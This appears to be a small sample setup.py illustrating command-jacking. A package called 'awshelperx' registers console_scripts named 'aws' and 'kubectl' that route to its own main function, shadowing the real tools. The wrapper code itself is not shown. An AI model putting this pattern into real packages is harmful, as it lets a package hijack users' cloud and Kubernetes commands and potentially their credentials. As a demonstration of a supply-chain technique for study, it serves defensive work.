# Command-jacking via console_scripts: wrappers named aws and kubectl.
from setuptools import setup

setup(name="awshelperx", version="1.0.0", py_modules=["awshelperx"],
      entry_points={"console_scripts": ["aws = awshelperx:main", "kubectl = awshelperx:main"]})
